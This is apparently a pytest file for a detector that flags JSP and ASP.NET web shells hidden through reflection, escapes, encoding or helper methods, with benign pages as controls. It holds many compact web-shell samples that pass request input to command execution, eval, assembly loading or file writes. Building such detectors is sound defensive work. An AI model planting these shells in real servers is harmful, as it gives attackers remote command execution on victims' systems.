# SPDX-License-Identifier: Apache-2.0
"""A JSP or ASP.NET web shell that hides behind variables, methods, reflection or escapes is told; honest pages are not."""

from __future__ import annotations

import random
from itertools import pairwise

import pytest

from headwater.examine.parsers import web_script
from headwater.model.records import Event, File

# SOURCE: every piece of code here was written for these tests, after the documented interfaces of Servlet and ASP.NET.
REFLECTED = b"""<%@ page import="java.lang.reflect.*" %><%
Class rt = Class.forName(new String(new byte[]{106,97,118,97,46,108,97,110,103,46,82,117,110,116,105,109,101}));
Method m = rt.getMethod(new String(java.util.Base64.getDecoder().decode("ZXhlYw==")), String.class);
m.invoke(rt.getMethod("get" + "Runtime").invoke(null), request.getParameter("q")); %>"""
LOADER = b"""<%@page import="java.util.*,javax.crypto.*"%><%!class U extends ClassLoader{U(ClassLoader c){super(c);}
public Class g(byte []b){return super.defineClass(b,0,b.length);}}%><%if (request.getMethod().equals("POST")){
Cipher c=Cipher.getInstance("AES");c.init(2,k);
new U(this.getClass().getClassLoader()).g(c.doFinal(d.decodeBuffer(request.getReader().readLine()))).newInstance();}%>"""
CONSOLE = b"""<%@ Page Language="C#" %><script runat="server">
void Run(object s, EventArgs e) { ProcessStartInfo i = new ProcessStartInfo(); i.FileName = "cmd.exe";
  i.Arguments = "/c " + txtArg.Text; Process.Start(i); }
</script><form runat="server"><asp:TextBox id="txtArg" runat="server" /></form>"""
HANDLER = b"""<%@ WebHandler Language="C#" Class="H" %>
using System.Web; using System.Diagnostics;
public class H : IHttpHandler { public void ProcessRequest(HttpContext context) {
  string c = context.Request.Headers["X-Run"]; Go(c); }
  void Go(string what) { var p = new Process(); p.StartInfo.Arguments = what; p.Start(); } }"""


def said(code: bytes, path: str) -> list[tuple[str, str | None]]:
    """The traits that a file shows, after checking that its records tile it."""
    records = list(web_script.parse(File.of(code, "p1!/var/www/html/" + path)))
    spans = sorted({(r.offset, r.length) for r in records})  # type: ignore[union-attr]
    assert sum(length for _, length in spans) == len(code)
    assert all(a + n == b for (a, n), (b, _) in pairwise(spans))
    return [(str(r.fields["trait"]), r.fields["parameter"]) for r in records if isinstance(r, Event)]


@pytest.mark.parametrize(
    ("path", "code", "expected"),
    [
        ("a.jsp", b'<% String c = request.getParameter("c"); Process p = Runtime.getRuntime().exec(c); %>', ("exec-of-request", "c")),
        ("a.jsp", b'<% String[] a = {"/bin/sh","-c",request.getHeader("X-Q")}; new ProcessBuilder(a).start(); %>', ("exec-of-request", "X-Q")),
        ("a.jsp", b'<%! String go(String x) { return run(x.trim()); } String run(String y) { Runtime.getRuntime().exec(y); return ""; } %><%= go(request.getParameter("z")) %>', ("exec-of-request", "z")),
        ("a.jsp", b'<%! String key(HttpServletRequest r) { return r.getParameter("k"); } %><% Runtime.getRuntime().exec(key(request)); %>', ("exec-of-request", "k")),
        ("a.jsp", b'<% new javax.script.ScriptEngineManager().getEngineByName("js").eval(request.getParameter("e")); %>', ("eval-of-request", "e")),
        ("a.jsp", b'<% \\u0052untime.getRuntime().\\u0065xec(request.\\u0067etParameter("u")); %>', ("exec-of-request", "u")),
        ("a.jspx", b'<jsp:root version="2.0"><jsp:scriptlet>Runtime r = Runtime.getRuntime(); r.&#101;xec(request.getParameter(&quot;x&quot;));</jsp:scriptlet></jsp:root>', ("exec-of-request", "x")),
        ("a.jspx", b'<jsp:root><jsp:declaration><![CDATA[ String q; ]]></jsp:declaration><jsp:scriptlet><![CDATA[ q = request.getParameter("v"); new ProcessBuilder(q).start(); ]]></jsp:scriptlet></jsp:root>', ("exec-of-request", "v")),
        ("a.jsp", REFLECTED, ("exec-of-request", "q")),
        ("a.jsp", LOADER, ("eval-of-request", None)),
        ("a.jsp", b'<% Class.forName(request.getParameter("k")).getMethod(m, String.class).invoke(o, request.getParameter("v")); %>', ("callback-of-request", "k")),
        ("a.jsp", b'<% Object o = new ObjectInputStream(request.getInputStream()).readObject(); %>', ("deserialise-of-request", None)),
        ("a.jsp", b'<% StringBuilder b = new StringBuilder(); b.append("sh -c "); b.append(request.getParameter("c")); Runtime.getRuntime().exec(b.toString()); %>', ("exec-of-request", "c")),
        ("a.jsp", b'<% byte[] b = java.util.Base64.getDecoder().decode("yv66vg=="); m.defineClass(b, 0, b.length); %>', ("eval-of-encoded", None)),
        ("a.jsp", b'<% new FileOutputStream(application.getRealPath("/") + request.getParameter("f")).write(1); %>', ("upload-write", "f")),
        ("a.aspx", CONSOLE, ("exec-of-request", "txtArg")),
        ("a.ashx", HANDLER, ("exec-of-request", "X-Run")),
        ("a.aspx", b'<%@ Page Language="Jscript"%><% var p = Request.Item["z"]; eval(p, "unsafe"); %>', ("eval-of-request", "z")),
        ("a.aspx", b'<%@ Page Language="C#" %><% System.Reflection.Assembly.Load(Convert.FromBase64String(Request.Form["a"])).CreateInstance("U"); %>', ("eval-of-request", "a")),
        ("a.aspx", b'<%@ Page Language="C#"%><% byte[] b = Request.BinaryRead(Request.ContentLength); Assembly.Load(b).CreateInstance("K"); %>', ("eval-of-request", None)),
        ("a.aspx", b'<%@ Page Language="C#"%><% System.IO.File.WriteAllText(Server.MapPath(Request["n"]), Request["t"]); %>', ("upload-write", "n")),
        ("a.cshtml", b'@{ var c = Request["c"]; System.Diagnostics.Process.Start("cmd.exe", "/c " + c); } <p>@c</p>', ("exec-of-request", "c")),
        ("a.asp", b'<% x = request("p")\r\n  y = x\r\n execute y %>', ("eval-of-request", "p")),
        ("a.asp", b'<% Set w = CreateObject("WScript.Shell")\n Set r = w.Exec("cmd /c " & Request.Form("c")) %>', ("exec-of-request", "c")),
        ("a.asp", b'<% execute(chr(101)&chr(118)&chr(97)&chr(108)&chr(40)) %>', ("eval-of-encoded", None)),
        ("a.aspx", b'<%@ Page Language="VB" %><script runat="server">Sub Go()\n Dim s As String = Request.QueryString("c")\n Process.Start("cmd.exe", "/c " & s)\nEnd Sub</script>', ("exec-of-request", "c")),
    ],
)  # fmt: skip
def test_what_a_request_reaches(path: str, code: bytes, expected: tuple[str, str | None]) -> None:
    assert said(code, path) == [expected]


@pytest.mark.parametrize(
    ("path", "code"),
    [
        ("a.jsp", b'<% int n = Integer.parseInt(request.getParameter("n")); Runtime.getRuntime().exec("df " + n); %>'),
        ("a.jsp", b'<% String a = request.getParameter("a"); if (a.equals("disk")) { new ProcessBuilder("df", "-h").start(); } %>'),
        ("a.jsp", b'<% Process p = new ProcessBuilder("uptime").start(); BufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream())); out.println(request.getParameter("t") + r.readLine()); %>'),
        ("a.jsp", b'<%-- Runtime.getRuntime().exec(request.getParameter("c")) --%><p>help</p>'),
        ("a.jsp", b'<pre>&lt;% Runtime.getRuntime().exec(request.getParameter("c")); %&gt;</pre>'),
        ("a.jsp", b'<jsp:useBean id="b" class="x.B"/><jsp:setProperty name="b" property="*"/><%= b.getName() %> <%= request.getParameter("q") %>'),
        ("a.jsp", b'<% Object o = Class.forName("x.Y").newInstance(); o.getClass().getMethod("set", String.class).invoke(o, request.getParameter("v")); %>'),
        ("a.jsp", b'<% PreparedStatement s = c.prepareStatement("select 1 where a = ?"); s.setString(1, request.getParameter("a")); s.execute(); %>'),
        ("a.aspx", b'<%@ Page Language="C#" %><% var i = new ProcessStartInfo("ipconfig"); i.Arguments = "/all"; Process.Start(i); Response.Write(Request["x"].Length); %>'),
        ("a.aspx", b'<%@ Page Language="C#" %><script runat="server">void A(object s, EventArgs e) { Label1.Text = Server.HtmlEncode(Box.Text); }</script><asp:TextBox id="Box" runat="server"/>'),
        ("a.asp", b'<% id = CInt(Request("id"))\n Set rs = conn.Execute("select * from t where id=" & id) %>'),
        ("a.asp", b'<% name = Request.Form("name")\n Response.Write Server.HTMLEncode(name)\n conn.Execute sql %>'),
        ("a.cshtml", b'@{ var name = Request["name"]; } <p>@name</p> @foreach (var x in Model) { <li>@x</li> }'),
    ],
)  # fmt: skip
def test_honest_pages_say_nothing(path: str, code: bytes) -> None:
    assert [t for t, _ in said(code, path) if t != "exec"] == []


def test_the_bytes_that_a_trait_cites_are_the_files_own_despite_escapes() -> None:
    code = b'<p>\n</p>\n<% \\u0052untime.getRuntime().exec(\n  request.getParameter("u")); %>\n<p/>'
    (event,) = [r for r in web_script.parse(File.of(code, "p1!/var/www/a.jsp")) if isinstance(r, Event)]
    assert code[event.offset : event.offset + event.length].startswith(b"<% \\u0052untime")
    assert str(event.fields["match"]).startswith("\\u0052untime.getRuntime().exec( request")


def test_hostile_pages_do_not_raise_or_grow() -> None:
    rng = random.Random(7)
    pieces = [b"<%", b"%>", b"<%!", b"<%=", b"@{", b"}", b"<script runat=server>", b"</script>", b"(", b"request.getParameter(",
              b'"x"', b"\\u0041", b"&#99999999;", b"\xff\x00", b"new ProcessBuilder(", b"<jsp:scriptlet>", b"</jsp:", b";"]  # fmt: skip
    for n in range(60):
        code = b"".join(rng.choice(pieces) for _ in range(80))
        said(code, ("a.jsp", "a.jspx", "a.aspx", "a.ashx", "a.cshtml", "a.asp")[n % 6])
    said(b"<% " + b"(" * 20_000 + b" %>", "deep.jsp")
    said(b"<% x = " + b"a+" * 20_000 + b"request[1]; %>", "long.aspx")
